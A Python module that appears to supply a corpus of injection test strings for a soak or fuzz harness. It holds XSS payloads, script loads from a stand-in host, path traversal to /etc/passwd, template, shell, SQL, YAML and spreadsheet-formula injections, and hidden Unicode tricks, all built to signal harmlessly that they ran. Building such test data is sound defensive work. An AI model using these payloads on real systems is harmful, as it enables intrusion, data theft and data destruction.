"""Texts with which people attack pages, programs and readers; each says, where it can, that it ran."""

from __future__ import annotations

from typing import Final

RAN: Final = "soakRan"  # the function that an attack calls in a browser
SUM: Final = "1787569"  # what 1337*1337 gives where a template computes it
ASKED: Final = "soak.invalid"  # a host that nobody has: whoever asks for it was led away

_JS: Final = f"{RAN}()"
_ELEMENTS: Final = (
    f"<script>{_JS}</script>", f"<script src=//{ASKED}/a.js></script>", f"<img src=x onerror={_JS}>",
    f"<svg onload={_JS}>", f"<svg><script>{_JS}</script></svg>", f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<body onload={_JS}>", f"<iframe src=javascript:parent.{_JS}>", f"<iframe srcdoc='<script>parent.{_JS}</script>'>",
    f"<object data=javascript:{_JS}>", f"<embed src=//{ASKED}/a.swf>", f"<input autofocus onfocus={_JS}>",
    f"<details open ontoggle={_JS}>", f"<video><source onerror={_JS}></video>", f"<audio src=x onerror={_JS}>",
    f"<marquee onstart={_JS}>", f"<meta http-equiv=refresh content='0;url=//{ASKED}/'>", f"<base href=//{ASKED}/>",
    f"<link rel=stylesheet href=//{ASKED}/a.css>", f"<style>@import '//{ASKED}/a.css'</style>",
    f"<form action=//{ASKED}/><button autofocus>71</button></form>", f"<img src=//{ASKED}/pixel.png>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_JS}>", f"<template><script>{_JS}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>", f"<xmp><p title='</xmp><img src=x onerror={_JS}>'>",
    f"<a href=javascript:{_JS} autofocus onfocus={_JS}>71</a>", f"<button onclick={_JS} autofocus onfocus={_JS}>a</button>",
    f"<p style='background:url(//{ASKED}/a.png)'>a</p>", "<h1>Rank 1</h1>", "<b>1</b>", "<!-- 71", "<!--><script>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>", f"<IMG SRC=x OnErRoR={_JS}>", f"<img/src=x/onerror={_JS}//>",
    f"<img src=x onerror\n={_JS}>", f"＜script＞{_JS}＜/script＞", f"<a xlink:href='javascript:{_JS}'>a</a>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_JS}>'/></svg>", f"<portal src=//{ASKED}/>",
    "<plaintext>", "<textarea>", "<title>", "<table><td>", "<select><option>", "</div></main></body></html>",
)  # fmt: skip
_BREAKS: Final = (
    f"</script><script>{_JS}</script>", f"</style><script>{_JS}</script>", f"</title><script>{_JS}</script>",
    f"</text></svg><img src=x onerror={_JS}>", f"]]><img src=x onerror={_JS}>", f"--><img src=x onerror={_JS}>",
    f"\"><img src=x onerror={_JS}>", f"'><img src=x onerror={_JS}>", f"\" onmouseover={_JS} autofocus onfocus={_JS} x=\"",
    f"' onfocus='{_JS}' autofocus '", f"` onerror={_JS} `", f"\\\"><script>{_JS}</script>", f"\";{_JS};//", f"';{_JS};//",
    f"`;{_JS};`", f"${{{_JS}}}", f"\\u003cscript\\u003e{_JS}\\u003c/script\\u003e", f"&lt;script&gt;{_JS}&lt;/script&gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;", f"%3Cscript%3E{_JS}%3C/script%3E", f"\"}}}};{_JS};{{{{\"", "\"}]}", "\\", "\\\\\"",
    f"}}*{{background:url(//{ASKED}/a)}}", f"\"}}</style><img src=x onerror={_JS}>", "\\3c script\\3e", "/*", "*/", "//",
)  # fmt: skip
_ADDRESSES: Final = (
    f"javascript:{_JS}", f"JaVaScRiPt:{_JS}", f"java\tscript:{_JS}", f"javascript://a.org/%0a{_JS}", f"vbscript:{_JS}",
    f"data:text/html,<script>{_JS}</script>", f"//{ASKED}/", f"\\\\{ASKED}\\a", "file:///etc/passwd", "local:///etc/shadow",
    f"https://a.org@{ASKED}/", f"https://{ASKED}/\" onfocus={_JS} autofocus x=\"", "https://[", "http://a b/", "../../../etc/passwd",
    "..\\..\\a", "/etc/passwd", "C:\\a", "CON", "a/../../b", "mailto:a@a.org?bcc=b@b.org",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{1337*1337}}", "${1337*1337}", "<%= 1337*1337 %>", "#{1337*1337}", "{%print(1337*1337)%}", "{# a #}", "{{", "{%", "}}",
    "{n.__class__.__mro__}", "{0.__globals__}", "{value!r}", "{}", "{", "}", "%s", "%(n)s", "%n%n%n", "$$", "\\input{/etc/passwd}",
    "{{config}}", "{{''.__class__}}", "!!python/object/apply:os.system [id]", "*alias", "&anchor a", "a: b: c", "- a", "|", ">", "@a", "`id`",
    "$(id)", "; id", "| id", "' OR 1=1--", "'; DROP TABLE jobs;--", "=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(1)", "#REF!", "NaN", "null",
)  # fmt: skip
_MARKUP: Final = (
    f"[71](javascript:{_JS})", f"![a](//{ASKED}/a.png)", f"![a](x\"onerror={_JS})", f"<javascript:{_JS}>", f"[a]: javascript:{_JS}",
    "# Another title", "**1**", "~~71~~", "`71`", "| a | b |\n|---|---|", "---", "$\\href{javascript:a}{b}$", f"<a@{ASKED}>",
)  # fmt: skip
_HIDDEN: Final = (
    "\u202e17", "\u202d71", "7\u200b1", "7\u20601", "\u206671\u2069", "\ufeff71", "\u200f71", "71\u00ad", "71\u2028a", "71\u0085a", "\x1b[2J71",
    "71\x00a", "71\x07", "71\x7f", "\x9b31m71", "71\ufff9a\ufffab\ufffb", "\U000e0041\U000e0042", "\u061c71", "\u180e71", "71\r17",
)  # fmt: skip
ATTACKS: Final = (*_ELEMENTS, *_BREAKS, *_ADDRESSES, *_TEMPLATES, *_MARKUP, *_HIDDEN, "A" * 20_000)
